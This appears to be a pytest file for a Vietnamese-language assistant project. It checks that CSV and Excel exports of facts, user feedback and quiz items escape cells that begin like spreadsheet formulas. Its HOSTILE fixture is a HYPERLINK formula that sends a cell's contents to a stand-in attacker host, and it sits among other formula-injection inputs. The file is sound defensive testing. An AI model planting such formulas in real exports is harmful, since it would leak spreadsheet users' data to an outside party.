"""Exports opened in a spreadsheet program: document text that starts like a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from quiz_parsers import make_item

from assistant.facts import export as fact_export
from assistant.facts.model import Evidence, Fact
from assistant.spreadsheet import guard, unguard

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_guarded_and_read_back_as_written(value: str) -> None:
    assert guard(value) == "'" + value and unguard(guard(value)) == value


@pytest.mark.parametrize("value", ["Sở Nội vụ", "30/6/2025", "", "'quoted", "a=b"])
def test_plain_text_is_left_alone(value: str) -> None:
    assert guard(value) == value and unguard(value) == value


def _fact(text: str) -> Fact:
    return Fact(kind="responsibility", actor="Sở Nội vụ", text=text, language="vi", verified=True,
                renderings={"en": "The Department of Home Affairs trains officials."},
                evidence=[Evidence(source="ds.csv", quote=text, row=4)]).with_id()  # fmt: skip


def test_fact_exports_keep_hostile_text_as_text_and_carry_renderings(tmp_path: Path) -> None:
    facts = [_fact(HOSTILE), _fact("- Sở Nội vụ bồi dưỡng kỹ năng số.")]
    rows = list(csv.DictReader(io.StringIO(fact_export.to_csv(facts))))
    assert [r["text"] for r in rows] == ["'" + HOSTILE, "'- Sở Nội vụ bồi dưỡng kỹ năng số."]
    assert rows[0]["renderings"] == "en: The Department of Home Affairs trains officials."
    path = tmp_path / "facts.xlsx"
    fact_export.write_xlsx(facts, path)
    sheet = load_workbook(path).active
    text = sheet.cell(row=2, column=fact_export.COLUMNS.index("text") + 1)
    assert text.value == HOSTILE and text.data_type == "s", "a string cell, not a formula"
    assert sheet.cell(row=2, column=fact_export.COLUMNS.index("renderings") + 1).value.startswith("en: ")


def test_feedback_csv_guards_what_users_typed() -> None:
    from assistant.feedback.export import to_csv
    from assistant.feedback.records import FeedbackRecord

    record = FeedbackRecord(id="f1", created_at=datetime(2026, 12, 5, tzinfo=UTC), question=HOSTILE,
                            answer="Có 58 xã.", rating="down", comment="-1 điểm", backend="none")  # fmt: skip
    (row,) = csv.DictReader(io.StringIO(to_csv([record])))
    assert row["question"] == "'" + HOSTILE and row["comment"] == "'-1 điểm" and row["answer"] == "Có 58 xã."


def test_quiz_csv_guards_cells_and_reads_them_back_unchanged(tmp_path: Path) -> None:
    from assistant.quiz.export import export
    from assistant.quiz.export.csv_file import read_csv
    from assistant.quiz.items import Quiz

    items = [make_item("numerical", stem="=1+1 là bao nhiêu (nguồn ghi -5)?", value=-5.0, tolerance=0.0)]
    quiz = Quiz(title="Q", language="vi", seed=1, items=items, report={"kept": 1, "dropped": []})
    path = export(quiz, "csv", tmp_path / "quiz.csv").path
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["stem"].startswith("'=1+1") and row["value"] == "'-5"
    assert read_csv(path) == items


def test_a_cell_listing_several_values_stays_one_field() -> None:
    from assistant.ingest.tables import split_row

    row = "Nhiệm vụ: Khảo sát điểm du lịch; Cơ quan phối hợp: Sở Giao thông; Công an tỉnh; Hạn: 10/10/2027"
    assert split_row(row) == [
        ("Nhiệm vụ", "Khảo sát điểm du lịch"),
        ("Cơ quan phối hợp", "Sở Giao thông; Công an tỉnh"),
        ("Hạn", "10/10/2027"),
    ]
